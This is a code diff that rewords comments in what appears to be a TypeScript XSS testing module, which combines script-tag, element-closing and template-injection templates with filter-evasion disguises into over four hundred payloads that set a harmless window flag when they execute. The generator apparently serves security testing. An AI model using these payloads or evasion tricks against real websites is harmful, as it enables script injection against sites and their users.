@@ -1,6 +1,8 @@
 const RUN = 'window.__ran=1';
 
-/** Ways in that have worked somewhere: tags, attributes, addresses, ends of what is around, styles, templates. */
+/**
+ * Attacks that have worked somewhere: tags, attributes, addresses, closing of surrounding elements, styles, templates.
+ */
 const WAYS: ((run: string) => string)[] = [
   (run) => `<script>${run}</script>`,
   (run) => `</script><script>${run}</script>`,
@@ -36,7 +38,7 @@ const WAYS: ((run: string) => string)[] = [
   (run) => `{{constructor.constructor('${run}')()}}`,
   (run) => `\${${run}}`,
 ];
-/** What filters overlook. */
+/** Encodings that filters overlook. */
 const DISGUISES: ((text: string) => string)[] = [
   (text) => text,
   (text) => text.replace(/script/gi, 'ScRiPt'),
@@ -56,7 +58,7 @@ const DISGUISES: ((text: string) => string)[] = [
   (text) => `${text}<!--`,
 ];
 
-/** Four hundred texts and more; whichever is run sets `window.__ran`. */
+/** More than four hundred texts; any that runs sets `window.__ran`. */
 export const PAYLOADS: readonly string[] = [
   ...new Set(DISGUISES.flatMap((disguise) => WAYS.map((way) => disguise(way(RUN))))),
 ];
